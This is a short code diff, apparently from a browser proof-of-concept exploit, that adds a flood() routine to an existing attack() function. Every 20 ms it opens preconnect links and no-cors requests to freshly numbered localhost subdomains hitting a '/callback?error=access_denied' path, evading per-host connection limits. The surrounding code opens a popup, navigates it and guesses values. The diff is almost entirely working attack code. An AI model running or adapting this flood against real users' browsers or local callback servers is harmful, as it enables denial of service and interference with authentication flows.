@@ -114,6 +114,21 @@ async function guess() {
   }
 }
 
+// Goes on as long as the page is open: connections that say nothing, and requests between them. A
+// name of its own gets each past the browser's limit for one server.
+function flood() {
+  let n = 0;
+
+  setInterval(() => {
+    for (let i = 0; i < 5; i++) {
+      const base = `http://flood-${n++}.localhost:${port}`;
+
+      document.head.append(make('link', { rel: 'preconnect', href: base }));
+      fetchFrom(`${base}/callback?error=access_denied`, { mode: 'no-cors' });
+    }
+  }, 20);
+}
+
 async function attack() {
   const popup = window.open('about:blank', 'popup');
 
@@ -131,6 +146,7 @@ async function attack() {
       await navigate(popup, base + path);
   }
   await guess();
+  flood();
   document.querySelector('pre').textContent = JSON.stringify(readable);
   document.querySelector('h1').textContent = 'Finished';
 }
